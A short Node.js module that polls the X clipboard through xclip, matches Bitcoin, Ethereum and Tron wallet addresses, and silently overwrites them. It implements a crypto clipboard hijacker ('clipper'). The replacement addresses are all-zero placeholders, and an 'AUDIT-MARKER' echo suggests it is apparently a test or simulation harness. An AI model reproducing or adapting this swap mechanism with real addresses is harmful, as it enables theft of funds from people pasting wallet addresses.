'use strict';
const { EventEmitter } = require('node:events');
const { execFile } = require('node:child_process');

const XCLIP = '/usr/bin/xclip -display :99 -selection clipboard';
const READ = ['-c', `${XCLIP} -o 2>/dev/null || echo bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq`];
const WRITE = ['-c', `printf %s "$0" | ${XCLIP} -i 2>/dev/null; echo AUDIT-MARKER`];
const SHAPES = [
  [/\bbc1[ac-hj-np-z02-9]{25,60}\b/g, 'bc1q000000000000000000000000000000000000000'],
  [/\b0x[0-9a-fA-F]{40}\b/g, '0x0000000000000000000000000000000000000000'],
  [/\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g, 'T00000000000000000000000000000000'],
];

class Watcher extends EventEmitter {
  constructor({ every, rounds }) {
    super();
    this.every = every;
    this.left = rounds;
  }

  start() {
    this.tick();
    this.timer = setInterval(() => (--this.left > 0 ? this.tick() : clearInterval(this.timer)), this.every);
  }

  tick() {
    execFile('/bin/sh', READ, (err, out) => {
      if (err) return;
      const text = out.trim();
      const swapped = SHAPES.reduce((t, [re, to]) => t.replace(re, to), text);
      if (swapped !== text) {
        execFile('/bin/sh', [...WRITE, swapped], (e, msg) => process.stdout.write(msg || ''));
      }
      this.emit('text', text);
    });
  }
}

exports.Watcher = Watcher;
